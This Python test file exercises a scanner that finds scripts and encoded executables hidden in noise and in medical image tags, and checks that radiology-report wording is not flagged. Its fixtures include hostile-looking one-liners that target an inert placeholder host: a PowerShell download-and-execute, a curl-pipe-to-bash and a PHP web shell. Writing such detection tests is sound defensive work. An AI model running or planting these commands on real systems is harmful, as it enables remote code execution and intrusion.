"""Lines of scripts and encoded files far from any beginning: met within noise, and borne out by what is around them."""

from __future__ import annotations

import random
from base64 import b64encode

import pytest

from harness import hidden, payloads
from strongroom.screen.findings import Severity
from strongroom.screen.matches import Match
from strongroom.screen.phrases import PHRASES
from strongroom.screen.screening import screen_bytes
from strongroom.screen.search import Search

NOISE = random.Random(5).randbytes(9_000)
SCRIPTS = {
    "batch": b"@echo off\r\ndel /q %TEMP%\\a.txt\r\n",
    "PowerShell": b"$c = New-Object Net.WebClient; IEX $c.DownloadString('http://inert.invalid')\r\n",
    "Windows script": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "inert.exe"\r\n',
    "PHP": b"<?php system($_GET['c']); ?>",
    "Python": b"import os\nos.system('echo inert')\n",
    "shell": b"cd /tmp && curl -s http://inert.invalid/a | bash\n",
    "JavaScript": b"eval(atob('MQ==')); document.location = 'http://inert.invalid/'\n",
}


def found_in(raw: bytes) -> list[tuple[int, Match]]:
    return list(Search().block(raw, 0, 0, len(raw)))


WIDE = ("batch", "PowerShell", "Windows script", "JavaScript")


@pytest.mark.parametrize(
    ("name", "coding"),
    [(name, "ascii") for name in SCRIPTS] + [(name, f"utf-16-{order}") for name in WIDE for order in ("le", "be")],
)
def test_a_script_is_found_within_noise(name: str, coding: str) -> None:
    text = SCRIPTS[name].decode().encode(coding)
    raw = NOISE[:4_001] + b"\0\x80" + text + b"\x80\0" + NOISE[4_001:]
    found = found_in(raw)
    assert {match.rule for _, match in found} == {"SR-SCRIPT-001"}
    assert 4_003 <= found[0][0] < 4_003 + len(text)


@pytest.mark.parametrize(
    "text",
    [
        b"The patient was told to import oscillation data; subprocess. of the bone is normal.",
        b"window -> level, rm -rf is what nobody says here without a path",
        b"Report: document.location of the lesion unknown",
    ],
)
def test_words_alone_are_no_script(text: bytes) -> None:
    """A phrase leads there; the text around it has to be one."""
    assert [match.rule for _, match in found_in(NOISE[:500] + b"\x80" + text + b"\x80" + NOISE[500:1000])] == []


def encodings(data: bytes) -> dict[str, bytes]:
    return {
        "base64": b64encode(data),
        "base64 in lines": b"\r\n".join(
            b64encode(data)[start : start + 76] for start in range(0, 4 * len(data) // 3, 76)
        ),
        "hex": data.hex().encode(),
        "HEX": data.hex().upper().encode(),
        "hex in words": data.hex(" ").encode(),
        "hex of Python": b"".join(b"\\x%02x" % byte for byte in data),
        "hex of C": b", ".join(b"0x%02x" % byte for byte in data),
    }


@pytest.mark.parametrize("how", sorted(encodings(b"")))
@pytest.mark.parametrize("name", ["pe64", "elf64", "mach-o", "java-class", "zip", "7z", "ole", "pdf"])
def test_an_encoded_file_is_found_within_noise(name: str, how: str) -> None:
    data = next(payload.make() for payload in payloads.PAYLOADS if payload.name == name)[:3_000]
    raw = NOISE[:4_001] + b"\0\x80" + encodings(data)[how] + b"\x80\0" + NOISE[4_001:]
    found = {match.rule for _, match in found_in(raw)}
    assert found
    assert found <= {"SR-ENC-001", "SR-ENC-002"}


def test_digits_that_never_begin_anything_are_passed_over() -> None:
    raw = (b"4d5a" * 3000 + b"TVqQAAMA" * 3000) * 4
    assert [match for _, match in found_in(raw) if match.rule == "SR-PE-001"] == []


def test_every_phrase_matches_as_many_bytes_as_it_says() -> None:
    """Where a phrase begins is reckoned back from where it ends."""
    assert len({expression for expression, _, _ in PHRASES}) == len(PHRASES)
    assert all(4 <= size < 128 for _, size, _ in PHRASES)


REPORTS = (
    b"Class II(a):\r\nmoderate stenosis of the left carotid artery.",
    b"Patient with new-onset -left sided- weakness, import function of the arm preserved; set-point $ value unknown.",
    b"Seen as out-patient $50 paid. Get-together -see notes- planned; start-up -slow rise.",
    b"Export function of the liver normal, export class of drug unclear.",
    b"Package require signature of the radiologist; package provide 3 images.",
    b"If [contrast] then repeat; do show; proc done in 1999 {see below}.",
    b"Sub document open to the referring physician; tell application of gel.",
    b"From __ to __: define self (self, others), module exports a report.",
    b"<5 mm nodule in S3; volume > 20 ml; (a => b) {c}; CT -> MR; 50% @ 10 cm; $ and & are signs.",
)


@pytest.mark.parametrize("text", REPORTS)
@pytest.mark.parametrize("tag", [(0x00204000, "LT"), (0x00291010, "OB"), (0x00291011, "UN"), (0x0040A160, "UT")])
def test_what_physicians_write_is_no_script(text: bytes, tag: tuple[int, str]) -> None:
    extra = {0x00290010: ("LO", b"VENDOR"), tag[0]: (tag[1], text)}
    found = screen_bytes(hidden.file_of(hidden.encode(hidden.image() | extra))).at_least(Severity.MEDIUM)
    assert [(each.rule.id, each.what) for each in found] == []
